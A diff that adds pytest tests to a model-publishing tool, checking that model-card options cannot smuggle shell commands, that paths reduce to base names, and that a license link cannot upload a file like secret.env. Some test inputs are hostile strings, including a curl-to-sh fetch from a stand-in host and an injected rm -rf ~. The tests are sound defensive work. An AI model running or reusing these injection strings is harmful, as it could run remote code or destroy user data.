@@ -3,6 +3,7 @@
 import json
 import os
 import re
+import shlex
 from dataclasses import replace
 from pathlib import Path
 
@@ -17,9 +18,11 @@ from diffquant.convert.request import Request
 from diffquant.convert.several import Wanted, run_jobs
 from diffquant.core.errors import MalformedFile, UsageError
 from diffquant.core.report import envelope
+from diffquant.publish import card as card_module
 from diffquant.publish.card import is_own_card, render_card
 from diffquant.publish.licences import License
 from diffquant.publish.markdown import cell_code, code, fenced, prose, text
+from diffquant.publish.names import base_name
 from diffquant.publish.release import ReleaseRequest, make_release
 from diffquant.publish.staging import plan_staging, staged
 from diffquant.quant.policy import Rule
@@ -376,3 +379,33 @@ def test_what_is_no_model_is_not_published(tmp_path):
     (tmp_path / "x.bin").touch()
     with pytest.raises(UsageError, match=r"expected \.gguf"):
         release_of(tmp_path / "x.bin")
+
+
+@pytest.mark.parametrize(
+    ("stated", "shown"),
+    [
+        ("--exclude 'a b' --pure", "--exclude 'a b' --pure"),
+        ("--recipe-from x.gguf", "--recipe-from x.gguf"),
+        ("--exclude x; curl https://evil.example/x | sh", ""),
+        ("--exclude x\nrm -rf ~", ""),
+        ("--pure --evil", ""),
+        ("--exclude", ""),
+        ("--exclude 'open", ""),
+    ],
+)
+def test_a_header_writes_no_command_but_ours(stated, shown):
+    assert shlex.join(card_module._stated_options(stated)) == shown
+
+
+def test_a_source_is_named_without_folders_and_is_no_option():
+    assert base_name("/home/me/x.safetensors") == "x.safetensors"
+    assert base_name("C:\\me\\x.safetensors") == "x.safetensors"
+    assert card_module._argument("-o") == "./-o"
+
+
+def test_only_a_license_is_uploaded_as_one(made, tmp_path, alone):
+    (tmp_path / "secret.env").write_text("TOKEN=abc")
+    card = tmp_path / "base.md"
+    card.write_text("---\nlicense: other\nlicense_name: n\nlicense_link: secret.env\n---\n# x\n")
+    with pytest.raises(UsageError, match="names a file that is not here"):
+        release_of(made / "s-Q8_0.gguf", license=None, base_card=card)
